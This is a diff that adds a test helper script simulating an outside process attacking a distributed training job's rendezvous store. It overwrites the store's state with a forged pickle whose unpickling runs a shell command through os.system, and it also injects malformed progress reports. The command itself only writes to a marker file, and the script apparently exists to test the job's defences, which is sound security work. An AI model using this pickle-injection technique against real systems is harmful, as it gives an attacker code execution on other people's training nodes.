@@ -1,0 +1,55 @@
+"""What a process outside a job does to the job's rendezvous store (test_rendezvous_security).
+
+``python rdzv_attacker.py HOST PORT RUN_ID MARKER``: connects to the store as a plain
+``torch.distributed.TCPStore`` client, reads the rendezvous state, then for a few seconds
+replaces it with a pickle that appends a line to ``MARKER`` when unpickled, and writes a
+malformed cross-node progress report (a ``step`` that is a string) for node 1 of the first
+rounds. Prints ``unreachable`` when it cannot connect, else ``read N bytes`` and ``replaced``.
+"""
+
+from __future__ import annotations
+
+import base64
+import datetime
+import os
+import pickle
+import sys
+import time
+from typing import Any
+
+
+class Payload:
+    def __init__(self, marker: str) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (os.system, (f"echo ran in pid $PPID >> {self.marker}",))
+
+
+def main() -> None:
+    host, port, run_id, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+    from torch.distributed import TCPStore
+
+    try:
+        store = TCPStore(host, port, is_master=False, timeout=datetime.timedelta(seconds=5))
+    except Exception:  # noqa: BLE001 - any failure to connect is the answer
+        print("unreachable", flush=True)
+        return
+    key = f"torch.rendezvous.{run_id}"
+    print(f"read {len(store.get(key))} bytes", flush=True)
+    forged = base64.b64encode(pickle.dumps(Payload(marker)))
+    report = b'{"node":1,"seq":999,"final":false,"ranks":[[1,"x",10,1.0,0.0,0]]}'
+    for i in range(60):  # 3 s: the agents overwrite both with their own now and then
+        try:
+            if i % 10 == 0:
+                store.set(key, forged)
+            for round_ in range(4):
+                store.set(f"{key}.{round_}/torchx_elastic/progress/node1", report)
+        except RuntimeError:  # the job ended: its store is gone
+            break
+        time.sleep(0.05)
+    print("replaced", flush=True)
+
+
+if __name__ == "__main__":
+    main()
